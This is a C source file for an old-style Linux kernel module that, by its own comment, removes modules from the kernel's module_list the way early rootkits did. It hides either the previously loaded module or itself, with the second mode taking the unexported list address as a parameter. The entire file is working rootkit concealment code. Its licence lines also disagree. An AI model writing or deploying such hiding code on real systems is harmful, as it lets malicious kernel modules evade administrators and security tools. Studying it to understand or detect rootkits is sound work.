// SPDX-License-Identifier: BSD-3-Clause
// Takes modules out of module_list as rootkits of the time did. The list runs
// from the newest module to the oldest through struct module's next.
//
// By default it hides the module loaded just before it, which it can reach as
// __this_module.next, and puts it back when it is unloaded. With list= and the
// address of the kernel's module_list, which is not exported, it hides itself.
#include <linux/kernel.h>
#include <linux/module.h>

long list;
MODULE_PARM(list, "l");

static struct module *hidden;

static void hide_self(void)
{
	struct module **link = (struct module **)list;

	while (*link && *link != THIS_MODULE)
		link = &(*link)->next;
	if (!*link) {
		printk("hide: not in the list at %08lx\n", list);
		return;
	}
	*link = THIS_MODULE->next;
	printk("hide: %s unlinked itself\n", THIS_MODULE->name);
}

/* The last in the list is the kernel itself, under an empty name; it stays. */
static void hide_previous(void)
{
	struct module *previous = THIS_MODULE->next;

	if (!previous->next) {
		printk("hide: nothing to hide\n");
		return;
	}
	hidden = previous;
	THIS_MODULE->next = previous->next;
	printk("hide: unlinked %s\n", hidden->name);
}

int init_module(void)
{
	if (list)
		hide_self();
	else
		hide_previous();
	return 0;
}

void cleanup_module(void)
{
	if (!hidden)
		return;
	THIS_MODULE->next = hidden;
	printk("hide: put %s back\n", hidden->name);
}

MODULE_LICENSE("GPL");
EXPORT_NO_SYMBOLS;
